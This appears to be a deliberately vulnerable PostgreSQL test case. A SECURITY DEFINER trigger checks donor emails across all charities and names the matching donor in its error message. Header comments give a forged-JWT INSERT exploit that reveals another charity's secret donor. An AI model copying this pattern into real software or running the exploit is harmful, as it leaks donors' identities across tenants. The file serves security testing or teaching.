-- The trigger looks for the donor in all charities and says in its error which one knows him already.
-- about: donor_known, donors_known, donors
-- as: hf_fundraisers_app
-- exploit: SET request.jwt.claims = '{"sub": "aaaaaaaa-aaaa-aaaa-aaaa-aaaaaaaaaaaa"}';
-- exploit: INSERT INTO donors (charity_id, email, full_name)
-- exploit: VALUES ('11111111-1111-1111-1111-111111111111', 'Rich@road.example', 'Guess');
-- shows: already known as Road-secret donor
-- Mail addresses that differ in case only made two donors of one.
CREATE FUNCTION donor_known() RETURNS trigger
LANGUAGE plpgsql SECURITY DEFINER SET search_path = public, pg_temp AS $$
DECLARE other donors;
BEGIN
  SELECT * INTO other FROM donors d WHERE lower(d.email) = lower(NEW.email) AND d.id <> NEW.id LIMIT 1;
  IF FOUND THEN
    RAISE EXCEPTION 'already known as %', other.full_name;
  END IF;
  RETURN NEW;
END
$$;
CREATE TRIGGER donors_known BEFORE INSERT ON donors FOR EACH ROW EXECUTE FUNCTION donor_known();
